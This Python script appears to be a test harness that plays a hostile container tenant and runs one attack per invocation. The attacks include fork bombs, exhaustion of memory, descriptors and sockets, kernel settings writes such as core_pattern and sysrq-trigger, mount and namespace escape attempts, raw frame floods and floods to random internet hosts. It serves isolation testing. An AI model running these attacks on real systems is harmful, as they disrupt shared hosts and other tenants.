"""What a tenant with bad intent does as root of its container: one attack each, named by the first argument.

Each prints one line for whatever it got, and ends by itself; what it started ends with it. It does not say whether it was refused
rightly: the test does, which looks at the node and at another container.
"""
import ctypes, errno, fcntl, glob, mmap, os, random, resource, signal, socket, struct, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
SECONDS = float(sys.argv[2]) if len(sys.argv) > 2 else 2.0
until = time.monotonic() + SECONDS


def call(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def attempt(name, what):
    try:
        what()
        print(name, "done", flush=True)
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, error.errno), flush=True)


def as_many(make, most=1 << 20):
    """What `make` gives, until it is refused, or until time is over; and how that ended."""
    got = []
    try:
        while len(got) < most and time.monotonic() < until:
            got.append(make())
    except (OSError, MemoryError) as error:
        print("got", len(got), errno.errorcode.get(getattr(error, "errno", None), "ENOMEM"), flush=True)
        return got
    print("got", len(got), "limit of the attack", flush=True)
    return got


def children(count, work):
    """Runs `work` in so many processes until time is over; then kills what is left."""
    pids = []
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                work()
            finally:
                os._exit(0)
        pids.append(pid)
    while time.monotonic() < until:
        time.sleep(0.05)
    for pid in pids:
        os.kill(pid, signal.SIGKILL)
    for pid in pids:
        os.waitpid(pid, 0)
    print("children", len(pids), flush=True)


def everybody_ends():
    # Everything in this pid namespace that root inside may kill, itself excepted.
    for _ in range(3):
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            return
        time.sleep(0.1)


def forks():
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    def bomb():
        while True:
            try:
                os.fork()
            except OSError:
                pass
    if os.fork() == 0:
        bomb()
    time.sleep(SECONDS)
    everybody_ends()
    print("children over", flush=True)


def computing():
    def burn():
        while True:
            pass
    children(16, burn)


def memory():
    def eat():
        os.setsid()
        taken = []
        while True:
            taken.append(b"x" * (8 << 20))
    children(4, eat)


def files_in_memory():
    def fill(place):
        def write():
            with open(place + "/full-%d" % os.getpid(), "wb") as out:
                while True:
                    out.write(b"x" * (1 << 20))
        return write
    for place in ["/tmp", "/dev/shm"]:
        attempt("fill " + place, lambda: children(1, fill(place)))
    for path in glob.glob("/tmp/full-*") + glob.glob("/dev/shm/full-*"):
        os.unlink(path)


def kernel_memory():
    def pipes():
        def one():
            read, write = os.pipe()
            try:
                fcntl.fcntl(write, 1031, 1 << 20)
            except OSError:
                pass
            os.set_blocking(write, False)
            try:
                os.write(write, b"x" * (1 << 20))
            except OSError:
                pass
            return read, write
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        got = []
        while True:
            try:
                got.append(one())
            except OSError:
                time.sleep(0.1)
    children(8, pipes)


def tree():
    def fill():
        with open("/dc/attack-%d" % os.getpid(), "wb") as out:
            while True:
                out.write(b"x" * (1 << 20))
    children(2, fill)
    for path in glob.glob("/dc/attack-*"):
        os.unlink(path)


def links():
    os.makedirs("/dc/links", exist_ok=True)
    open("/dc/links/file", "w").close()
    count = 0
    try:
        while time.monotonic() < until:
            os.link("/dc/links/file", "/dc/links/hard-%d" % count)
            os.symlink("hard-%d" % count, "/dc/links/soft-%d" % count)
            count += 1
    except OSError as error:
        print(errno.errorcode[error.errno], flush=True)
    for path in glob.glob("/dc/links/*"):
        os.unlink(path)
    print("links", count, flush=True)


def file_flood():
    def flood():
        while True:
            try:
                os.stat("/dc/none-%d" % random.getrandbits(40))
                os.listdir("/dc")
            except OSError:
                pass
    children(32, flood)


def terminals():
    as_many(lambda: os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))


def descriptors():
    def take():
        most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        as_many(lambda: os.open("/dev/null", os.O_RDONLY))
        time.sleep(60)
    children(8, take)


def connections():
    def to_broker():
        peer = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        peer.settimeout(0.5)
        peer.connect("/run/dvs/broker")
        return peer
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    held = as_many(to_broker)
    for peer in held:
        try:
            peer.setblocking(False)
            peer.send(os.urandom(64))
        except OSError:
            pass
    # One that is slow to close, with what it was sent unread.
    for peer in held[:64]:
        try:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 60))
        except OSError:
            pass


def watches():
    notify = libc.inotify_init1(0)
    print("instances", flush=True)
    as_many(lambda: call(libc.inotify_init1(0)), 4096)
    for directory, names, files in os.walk("/usr/lib"):
        if libc.inotify_add_watch(notify, directory.encode(), 0xfff) < 0:
            print("watches", errno.errorcode[ctypes.get_errno()], flush=True)
            return
        if time.monotonic() > until:
            return


def semaphores():
    as_many(lambda: call(libc.semget(0, 250, 0o600)), 1 << 16)
    as_many(lambda: call(libc.shmget(0, 1 << 30, 0o600)), 1 << 16)
    as_many(lambda: call(libc.msgget(0, 0o600)), 1 << 16)


def logs():
    block = ("x" * 120 + "\n") * 1024
    written = 0
    while time.monotonic() < until:
        written += sys.stdout.write(block)


def signals():
    own = os.getpid()
    for pid in list(range(1, 70_000)) + [-1]:
        if pid == own:
            continue
        for number in [signal.SIGSTOP, signal.SIGKILL]:
            try:
                os.kill(pid, number)
            except OSError:
                break
    attempt("trace init", lambda: call(libc.ptrace(16, 1, 0, 0)))
    attempt("memory of init", lambda: open("/proc/1/mem", "rb"))
    attempt("files of init", lambda: os.listdir("/proc/1/fd"))
    attempt("root of init", lambda: os.listdir("/proc/1/root"))
    attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))
    attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)))
    attempt("kill score", lambda: open("/proc/self/oom_score_adj", "w").write("-1000"))


def own_init():
    """Root inside has the same user as its init and may limit it, to its own harm."""
    attempt("priority of init", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
    attempt("limits of init", lambda: resource.prlimit(1, resource.RLIMIT_CPU, (0, 0)))
    attempt("files of init", lambda: resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0)))
    time.sleep(SECONDS)


def settings():
    """Writes what it reads to every setting of the kernel, and something else to those that matter."""
    kept = ["/proc/sys/kernel/ns_last_pid"]
    for directory, _, names in os.walk("/proc/sys"):
        for name in names:
            path = os.path.join(directory, name)
            if path in kept:
                continue
            try:
                value = open(path).read()
                with open(path, "w") as out:
                    out.write(value)
            except (OSError, UnicodeDecodeError, ValueError):
                continue
            print("writable", path, flush=True)
    for path, value in [
        ("/proc/sys/kernel/core_pattern", "|/tmp/x"), ("/proc/sys/kernel/modprobe", "/tmp/x"),
        ("/proc/sys/kernel/hotplug", "/tmp/x"), ("/proc/sys/vm/overcommit_memory", "2"),
        ("/proc/sys/vm/drop_caches", "3"), ("/proc/sys/fs/file-max", "1"), ("/proc/sys/kernel/panic", "1"),
        ("/proc/sys/kernel/pty/max", "1"), ("/proc/sys/kernel/threads-max", "30"), ("/proc/sysrq-trigger", "b"),
        ("/proc/irq/0/smp_affinity", "1"), ("/proc/timer_list", "1"), ("/proc/kcore", "x"), ("/proc/1/oom_score_adj", "1000"),
        ("/sys/kernel/uevent_helper", "/tmp/x"), ("/sys/power/state", "mem"), ("/sys/kernel/mm/ksm/run", "1"),
        ("/sys/devices/system/cpu/cpu1/online", "0"), ("/sys/fs/cgroup/cgroup.procs", "0"),
        ("/sys/module/kernel/parameters/panic", "1"), ("/sys/kernel/debug/x", "1"),
    ]:
        attempt(path, lambda: os.write(os.open(path, os.O_WRONLY), value.encode()))


def mounts():
    attempt("usr writable", lambda: call(libc.mount(None, b"/usr", None, 32 | 4096, None)))
    attempt("sys writable", lambda: call(libc.mount(None, b"/sys", None, 32, None)))
    attempt("take proc away", lambda: call(libc.umount2(b"/proc", 2)))
    attempt("new file system", lambda: call(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None)))
    attempt("new user namespace", lambda: call(libc.unshare(0x10000000)))
    attempt("new network", lambda: call(libc.unshare(0x40000000)))
    attempt("device", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)))
    attempt("memory device", lambda: os.mknod("/tmp/mem", 0o20666, os.makedev(1, 1)))
    attempt("root of another", lambda: os.chroot("/proc/1/root"))
    attempt("kexec", lambda: call(libc.syscall(246, 0, 0, 0, 0)))
    attempt("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
    attempt("name of the node", lambda: call(libc.setdomainname(b"attack", 6)))
    attempt("swap", lambda: call(libc.swapon(b"/tmp/x", 0)))
    attempt("quota", lambda: call(libc.syscall(179, 0, 0, 0, 0)))
    attempt("handle", lambda: call(libc.syscall(304, 0, 0, 0)))


def network():
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    raw.bind(("eth0", 0))
    own = raw.getsockname()[4]
    sent = 0
    while time.monotonic() < until:
        for to in [b"\xff" * 6, own[:5] + b"\x07", b"\x56\x44\x00\x00\x63\x00"]:
            body = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, os.urandom(4), os.urandom(4)) + bytes(8)
            try:
                raw.send(to + own + b"\x08\x00" + body)
                sent += 1
            except OSError:
                pass
    print("frames", sent, flush=True)


def socket_buffers():
    """Fills what sockets buffer, in many of them, which nobody reads."""
    def fill():
        held = []
        while True:
            try:
                ours, theirs = socket.socketpair()
                ours.setblocking(False)
                held.append((ours, theirs))
                ours.send(b"x" * (1 << 18))
            except OSError:
                time.sleep(0.01)
    children(8, fill)


def way_out():
    """More connections and datagrams, to everywhere, than the gate to the outside takes; kept, and not read."""
    def fill():
        held, datagrams = [], socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        while True:
            host = ".".join(str(random.randrange(1, 224)) for _ in range(4))
            to = (host, random.randrange(1, 65536))
            try:
                ours = socket.socket()
                ours.setblocking(False)
                held.append(ours)
                ours.connect_ex(to)
                datagrams.sendto(b"x" * 1400, to)
            except OSError:
                held.clear()
            if len(held) > 500:
                held.clear()
    children(8, fill)


def m3ipc():
    """The library for M3-IPC, where the test put it."""
    os.environ["M3IPC_LIBRARY"] = "/dc/m3/libm3ipc.so.0"
    sys.path.insert(0, "/dc/m3")
    import m3ipc
    return m3ipc


def accomplice():
    """On another node: takes what comes, and answers some of it."""
    lib, rings = m3ipc(), []
    with lib.Port() as port:
        print("endpoint", port.endpoint, flush=True)
        while time.monotonic() < until:
            try:
                event = port.wait(0.2)
                if isinstance(event, lib.RingOpened):
                    rings = (rings + [event.ring])[-64:]
                elif isinstance(event, lib.Message) and random.random() < 0.5:
                    port.reply(event.source, lib.Message(event.type))
            except lib.M3Error:
                pass


def far(work):
    """`work` with a port of its own and the number of the accomplice, in many processes."""
    lib, to, done = m3ipc(), int(sys.argv[3]), mmap.mmap(-1, 4096)

    def one_more():
        at = os.getpid() % 512 * 8
        done[at:at + 8] = struct.pack("q", struct.unpack("q", done[at:at + 8])[0] + 1)

    def attack():
        while time.monotonic() < until:
            try:
                with lib.Port() as port:
                    work(lib, port, to, one_more)
            except lib.M3Error:
                pass
    children(8, attack)
    print("did", sum(struct.unpack("512q", done[:])), flush=True)


def far_arenas():
    """Memory that two proxies map for the channel, touched to the last page; then the same again, quickly."""
    def work(lib, port, to, one_more):
        held = []
        for size in [256 << 20, 64 << 20, 4 << 20, 1 << 20] * 8:
            try:
                ring = port.open_ring(to, 64, size, 1)
                held.append(ring)
                for at in range(0, size, 1 << 16):
                    ring.arena[at] = 1
                one_more()
            except lib.M3Error:
                pass
        for ring in held:
            ring.close()
    far(work)


def far_messages():
    """More than the link carries, to one that answers half of it, and notices that nobody asked for."""
    def work(lib, port, to, one_more):
        for number in range(1 << 20):
            try:
                port.notify(to, random.getrandbits(63) or 1)
                port.sendrec(to, lib.Message(number & 0xffff, data=os.urandom(512)), 0.01)
                one_more()
            except lib.M3Error:
                pass
    far(work)


def far_names():
    """Endpoints that come and go, names for them, and questions for what is nowhere."""
    def work(lib, port, to, one_more):
        for what in [lambda: port.set_name("x%d" % random.getrandbits(32)), lambda: port.find("y%d" % random.getrandbits(32), 0),
                     lambda: port.send(random.randrange(256, 8000), lib.Message(1), 0.01), lambda: port.wait4bind(random.randrange(256, 8000), 0)]:
            try:
                what()
                one_more()
            except lib.M3Error:
                pass
    far(work)


ATTACKS = dict(
    accomplice=accomplice, far_arenas=far_arenas, far_messages=far_messages, far_names=far_names,
    forks=forks, computing=computing, memory=memory, files_in_memory=files_in_memory, kernel_memory=kernel_memory, tree=tree,
    links=links, file_flood=file_flood, terminals=terminals, descriptors=descriptors, connections=connections, watches=watches,
    semaphores=semaphores, logs=logs, signals=signals, own_init=own_init, settings=settings, mounts=mounts, network=network, sockets=socket_buffers,
    way_out=way_out,
)
print("begun", flush=True)
ATTACKS[sys.argv[1]]()
